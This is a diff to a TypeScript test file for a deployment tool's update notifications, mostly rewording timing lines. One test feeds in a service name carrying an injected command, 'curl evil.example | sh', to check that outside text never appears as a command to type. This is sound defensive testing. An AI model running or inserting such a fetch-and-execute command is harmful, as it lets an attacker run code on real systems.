@@ -12,7 +12,7 @@ import { alone, heldByWindow, rolledBack, running, storyAfter, succeeded, waitin
 /** What a person sees of a message. */
 const seen = (message: ReturnType<typeof render>) => ({
   notification: message.text,
-  lines: readBlocks(message.blocks as readonly CheckedBlock[]).text.split("\n"),
+  lines: readBlocks(message.blocks).text.split("\n"),
 });
 
 const plain = (text: string) => ({ type: "plain_text", text, emoji: false });
@@ -41,7 +41,7 @@ describe("the message about an update", () => {
         },
         {
           type: "context",
-          elements: [plain("update 17 · webhook distribution · 4s since it was found · times in UTC")],
+          elements: [plain("update 17 · webhook distribution · 4s after the push · times in UTC")],
         },
         {
           type: "section",
@@ -66,7 +66,7 @@ describe("the message about an update", () => {
         "✅ shop/api: succeeded",
         ...about,
         "semver",
-        "update 17 · webhook distribution · 14s since it was found · times in UTC",
+        "update 17 · webhook distribution · 14s after the push · times in UTC",
         ...pushed,
         "12:00:02 · patched container app 2.0 s after the push",
         "12:00:04 ✓ running 3 of 3 pods run 1.1.0 4.0 s after the push",
@@ -81,7 +81,7 @@ describe("the message about an update", () => {
         "⏪ shop/api: rolled back",
         ...about,
         "semver",
-        "update 17 · webhook distribution · 9s since it was found · times in UTC",
+        "update 17 · webhook distribution · 9s after the push · times in UTC",
         ...pushed,
         "12:00:02 · patched container app 2.0 s after the push",
         "12:00:05 ✗ failed 1.1.0: ImagePullBackOff in pod api-7 5.0 s after the push",
@@ -97,7 +97,7 @@ describe("the message about an update", () => {
         "⏳ shop/api: waiting",
         ...about,
         "semver",
-        "update 17 · webhook distribution · 1s since it was found · times in UTC",
+        "update 17 · webhook distribution · 1s after the push · times in UTC",
         ...pushed,
         "12:00:01 ⏸ held The maintenance window is closed: 0 18 * * 5 until 2026-03-02T13:00:00.000Z",
         "Wait until the window opens. If no time is shown, it does not open within eight years.",
@@ -111,7 +111,7 @@ describe("the message about an update", () => {
         "✋ shop/api: waiting for approval",
         ...about,
         "semver",
-        "update 17 · webhook distribution · 1s since it was found · times in UTC",
+        "update 17 · webhook distribution · 1s after the push · times in UTC",
         ...pushed,
         "12:00:01 ⏸ held This update waits for approval: 0 of 2",
         "Approve it: lookout approve shop/api --update 17",
@@ -300,7 +300,7 @@ describe("a text from outside", () => {
 
   it("is never a part of a command to type", () => {
     const name = "api; curl evil.example | sh";
-    const shown = readBlocks(render(alone(rolledBack, { ...api, name })).blocks as readonly CheckedBlock[]);
+    const shown = readBlocks(render(alone(rolledBack, { ...api, name })).blocks);
     expect(shown.styled.filter(({ style }) => style === "code")).toEqual([]);
   });
 
